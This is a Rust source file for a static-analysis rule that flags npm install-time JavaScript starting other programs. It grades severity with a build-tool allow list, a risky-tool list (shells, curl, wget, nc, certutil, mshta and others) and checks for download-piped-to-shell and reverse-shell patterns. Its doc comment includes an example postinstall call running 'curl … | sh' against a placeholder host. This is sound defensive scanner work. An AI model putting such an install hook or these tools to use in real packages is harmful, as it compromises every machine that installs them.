use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::Arg;

use super::common::{context, is_js_exec, js_sources};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds JavaScript that starts other programs (`child_process`, `execa`, `shelljs`,
/// `cross-spawn`) in files that run at install time: the files npm install hooks run
/// and the local modules they require. Recognised build commands (`node-gyp`, `make`,
/// `cmake`, `tsc`, `esbuild`, `prebuild`, `git`) are not reported; other literal commands
/// medium; commands built at run time are medium, high when they run at top level;
/// shells, downloaders and PowerShell are high, and a download piped into a shell is
/// critical, as is any program started in a file that also opens a raw socket (a
/// reverse shell).
///
/// ## Why is this bad?
/// Install-time JavaScript that shells out runs arbitrary commands on every machine
/// that installs the package. Native-module builds do it with a handful of well-known
/// tools; droppers and backdoors do it with shells, downloaders and commands they
/// assemble or decode at run time.
///
/// ## Example
/// ```javascript
/// // postinstall.js, run by "postinstall": "node postinstall.js"
/// require("child_process").exec("curl -s http://example.invalid/p | sh");
/// ```
#[derive(Debug)]
pub struct InstallProcessExec;

const BUILD_TOOLS: &[&str] = &[
    "node-gyp",
    "make",
    "cmake",
    "cmake-js",
    "tsc",
    "esbuild",
    "prebuild",
    "prebuild-install",
    "node-pre-gyp",
    "git",
    "npm",
    "yarn",
    "pnpm",
    "node",
    "gcc",
    "g++",
    "cc",
    "xcodebuild",
    "msbuild",
    "python",
    "python3",
    "cargo",
    "go",
    "patch-package",
    "husky",
    "rollup",
    "webpack",
    "unzip",
    "tar",
];

const RISKY: &[&str] = &[
    "sh",
    "bash",
    "/bin/sh",
    "/bin/bash",
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
    "curl",
    "wget",
    "nc",
    "ncat",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
];

/// The first word of a command argument, when the command is literal.
fn literal_command(arg: &Arg) -> Option<String> {
    match arg {
        Arg::Str(s) => Some(s.clone()),
        Arg::List(items) => Some(
            items
                .iter()
                .map(|a| a.as_str().unwrap_or("…"))
                .collect::<Vec<_>>()
                .join(" "),
        ),
        _ => None,
    }
}

fn judge(command: Option<&str>, top_level: bool) -> Option<Severity> {
    let Some(cmd) = command else {
        return Some(if top_level {
            Severity::High
        } else {
            Severity::Medium
        });
    };
    let lower = cmd.to_ascii_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| c.is_whitespace() || matches!(c, '|' | '&' | ';'))
        .filter(|w| !w.is_empty())
        .collect();
    let has_download = words
        .iter()
        .any(|w| matches!(*w, "curl" | "wget" | "iwr" | "invoke-webrequest"));
    if has_download
        && (lower.contains("| sh")
            || lower.contains("|sh")
            || lower.contains("| bash")
            || lower.contains("iex"))
    {
        return Some(Severity::Critical);
    }
    if words.iter().any(|w| RISKY.contains(w)) {
        return Some(Severity::High);
    }
    let first = words.first().map(|w| w.rsplit('/').next().unwrap_or(w));
    if first.is_some_and(|f| BUILD_TOOLS.contains(&f)) {
        return None;
    }
    Some(Severity::Medium)
}

impl Rule for InstallProcessExec {
    fn id(&self) -> &'static str {
        "JS-INSTALL-PROCESS-EXEC"
    }
    fn category(&self) -> Category {
        Category::EXECUTION
    }
    fn summary(&self) -> &'static str {
        "install-time JavaScript starts other programs"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            if context(input, file) != RunsAt::Install {
                continue;
            }
            // A program started next to a raw socket: the reverse-shell shape.
            let socket = facts.calls.iter().any(|c| {
                matches!(
                    c.callee.as_str(),
                    "net.connect" | "net.createConnection" | "net.Socket" | "tls.connect"
                )
            });
            for call in facts.calls.iter().filter(|c| is_js_exec(&c.callee)) {
                // `fork` runs a Node module, not a shell command.
                let runs_node =
                    matches!(call.args.first(), Some(Arg::Name(n)) if n == "process.execPath");
                let command = if call.callee.ends_with(".fork") || runs_node {
                    Some("node".to_owned())
                } else {
                    call.args.first().and_then(literal_command)
                };
                let Some(mut severity) = judge(command.as_deref(), call.scope.is_none()) else {
                    continue;
                };
                if socket {
                    severity = Severity::Critical;
                }
                let what = command.as_deref().map_or_else(
                    || "a command built at run time".to_owned(),
                    |c| format!("`{}`", ossprey_static::facts::snippet(c, 80)),
                );
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("install-time `{}` runs {what}", call.callee),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
            }
        }
    }
}
